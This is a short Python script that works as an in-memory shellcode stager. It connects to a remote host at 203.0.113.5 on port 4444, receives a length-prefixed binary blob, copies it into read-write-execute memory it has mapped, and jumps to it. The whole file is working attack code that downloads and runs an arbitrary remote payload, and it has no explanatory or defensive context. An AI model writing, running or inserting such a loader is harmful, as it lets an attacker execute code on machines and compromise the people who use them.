import ctypes
import mmap
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]


def pull(host, port):
    with socket.create_connection((host, port), 10) as s:
        n, = struct.unpack("<I", s.recv(4, socket.MSG_WAITALL))
        return s.recv(n, socket.MSG_WAITALL)


blob = pull("203.0.113.5", 4444)
size = (len(blob) | 0xFFF) + 1
addr = libc.mmap(None, size, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)
ctypes.memmove(addr, blob, len(blob))
ctypes.CFUNCTYPE(ctypes.c_int)(addr)()
